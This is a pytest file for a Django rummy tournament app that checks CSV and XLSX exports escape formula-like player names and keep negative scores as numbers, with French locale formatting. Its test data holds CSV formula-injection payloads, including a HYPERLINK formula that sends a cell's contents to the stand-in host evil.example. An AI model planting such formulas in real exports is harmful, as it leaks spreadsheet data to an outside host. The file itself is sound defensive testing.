"""Spreadsheet exports cannot carry live formulas: the one neutraliser, then every export
(a table's hands as CSV, the standings as CSV and XLSX) parsed as a spreadsheet would."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import EventFactory, make_game, play
from tests.views.tournament_data import seat_tables, tournament
from tournaments.models import Registration, Round
from tournaments.play.services.entry import close_game
from tournaments.words.exports import csv_text, spreadsheet_safe

# Names a spreadsheet would run as formulas (OWASP's examples), and one that is only text.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Prize")',
    "@SUM(1+1)",
    "+1+2",
    "-2+3",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Anne", "Anne"),
        ("O'Brien = 1", "O'Brien = 1"),
        ("", ""),
        ("-12", "-12"),
        ("4.5", "4.5"),
    ],
)
def test_text_that_could_start_a_formula_gets_a_leading_quote(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.mark.parametrize("value", [-12, 0, 7, Decimal("-4.5"), 2.5, None])
def test_numbers_stay_numbers(value):
    assert spreadsheet_safe(value) is value


def assert_no_formula(cells: list) -> None:
    """Every text cell is plain text: nothing starts a formula unless it is only a number."""
    for cell in cells:
        if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
            try:
                Decimal(cell)
            except ArithmeticError:
                pytest.fail(f"{cell!r} would be a formula")


@pytest.mark.django_db
def test_a_tables_hands_as_csv_neutralise_hostile_names_and_keep_negative_points(client):
    game = make_game(players=HOSTILE, variant="rummy", options={})
    # Rummy: each loser pays the winner his count, so the losers' points are negative.
    play(game, "going_out", HOSTILE[0], **{HOSTILE[1]: 12, HOSTILE[2]: 5, HOSTILE[3]: 9})
    response = client.get(reverse("game_hands_csv", kwargs={"game_id": game.pk}))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    headers, hand = rows
    assert f"'{HOSTILE[1]} counted" in headers and f"'{HOSTILE[3]} total" in headers
    assert hand[headers.index("Ended by")] == "'" + HOSTILE[0]
    assert hand[headers.index(f"'{HOSTILE[1]} points")] == "-12"
    assert hand[headers.index(f"'{HOSTILE[0]} points")] == "26"
    assert_no_formula(headers + hand)


@pytest.fixture
def hostile_standings():
    """A rummy tournament of one finished table whose players have formula-like names; the
    last player's cumulative score is -12."""
    event = tournament(variant="rummy", options={}, tie_breaks=["score"])
    round_ = Round.objects.create(event=event, number=1)
    players = [event.club.players.create(name=name) for name in HOSTILE]
    for player in players:
        Registration.objects.create(event=event, player=player, checked_in=True)
    (game,) = seat_tables(event, round_, [players], finished=False)
    # Rummy: each loser pays the winner his count.
    play(game, "going_out", HOSTILE[0], **{HOSTILE[1]: 1, HOSTILE[2]: 2, HOSTILE[3]: 12})
    close_game(game=game)
    return event


def standings_export(client, event, export_format: str, language: str = "en"):
    url = reverse("tournament:standings", args=[event.id])
    return client.get(url, {"_export": export_format}, HTTP_ACCEPT_LANGUAGE=language)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("language", "separator", "name", "player", "score"),
    [
        ("en", ",", "standings", "Player", "Cumulative score"),
        # French Excel opens ";" and decimal commas directly.
        ("fr", ";", "classement", "Joueur", "Score cumulé"),
    ],
)
def test_the_standings_as_csv_neutralise_hostile_names_and_keep_negative_scores(
    client, hostile_standings, language, separator, name, player, score
):
    response = standings_export(client, hostile_standings, "csv", language)
    filename = f"{name}-tournoi-de-printemps.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    text = response.content.decode("utf-8")
    assert text.startswith(f"\ufeffPlace{separator}{player}{separator}Points{separator}")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=separator))
    headers = rows[0]
    players = {row[headers.index(player)]: row for row in rows[1:]}
    assert set(players) == {"'" + name for name in HOSTILE}
    assert players["'-2+3"][headers.index(score)] == "-12"
    assert_no_formula([cell for row in rows for cell in row])


@pytest.mark.django_db
def test_the_standings_as_xlsx_hold_no_formula_and_numbers_stay_numbers(client, hostile_standings):
    response = standings_export(client, hostile_standings, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = list(sheet.values)
    headers = values[0]
    players = {row[headers.index("Player")]: row for row in values[1:]}
    assert set(players) == {"'" + name for name in HOSTILE}
    score = players["'-2+3"][headers.index("Cumulative score")]
    assert score == -12 and isinstance(score, int)
    assert_no_formula([cell.value for cell in cells])


# The reader's spreadsheet: French Excel opens ";" and decimal commas directly ---------------


def test_a_french_csv_has_semicolons_decimal_commas_and_a_byte_order_mark():
    rows = [["Joueur", "Points"], ["=1+1", Decimal("4.5")], ["Zoé", -12], ["Léa", Decimal("27.00")]]
    text = csv_text(rows, language="fr")
    assert text == "\ufeffJoueur;Points\r\n'=1+1;4,5\r\nZoé;-12\r\nLéa;27,00\r\n"


def test_an_english_csv_keeps_commas_and_decimal_points():
    text = csv_text([["Player", "Points"], ["@SUM(1)", Decimal("4.5")]], language="en")
    assert text == "\ufeffPlayer,Points\r\n'@SUM(1),4.5\r\n"


@pytest.mark.django_db
def test_a_tie_break_with_a_fraction_reads_with_a_decimal_comma_in_french(client):
    event = tournament(tie_breaks=["score_difference"])
    round_ = Round.objects.create(event=event, number=1)
    players = [event.club.players.create(name=name) for name in ("Anne", "Bruno", "Chloé")]
    for player in players:
        Registration.objects.create(event=event, player=player, checked_in=True)
    (game,) = seat_tables(event, round_, [players], finished=False)
    # Totals 11, 25, 30. Bruno: 25 − (11+30)/2 = 4.5; Anne: 11 − 27.5 = −16.5.
    play(game, "going_out", "Anne", Bruno=25, Chloé=15)
    play(game, "going_out", "Bruno", Anne=11, Chloé=15)
    close_game(game=game)
    url = reverse("tournament:standings", args=[event.id])
    french = client.get(url, {"_export": "csv"}, HTTP_ACCEPT_LANGUAGE="fr").content.decode()
    english = client.get(url, {"_export": "csv"}, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Anne;" in french and ";-16,5;" in french
    assert "Anne," in english and ",-16.5," in english
    xlsx = client.get(url, {"_export": "xlsx"}, HTTP_ACCEPT_LANGUAGE="fr")
    assert xlsx["Content-Disposition"].endswith('filename="classement-tournoi-de-printemps.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    values = list(sheet.values)
    anne = next(row for row in values if row[1] == "Anne")
    assert -16.5 in anne  # a real number, not "-16,5"


@pytest.mark.django_db
def test_a_tables_hands_are_named_in_the_readers_language(client):
    event = EventFactory(name="Soirée du jeudi", variant="rummy", options={})
    game = make_game(event, players=("Anne", "Bruno"))
    url = reverse("game_hands_csv", kwargs={"game_id": game.pk})
    french = client.get(url, HTTP_ACCEPT_LANGUAGE="fr")
    assert french["Content-Disposition"].endswith('filename="donnes-soiree-du-jeudi-table-1.csv"')
    assert french.content.decode("utf-8").startswith("\ufeffDonne;")
    english = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert english["Content-Disposition"].endswith('filename="hands-soiree-du-jeudi-table-1.csv"')
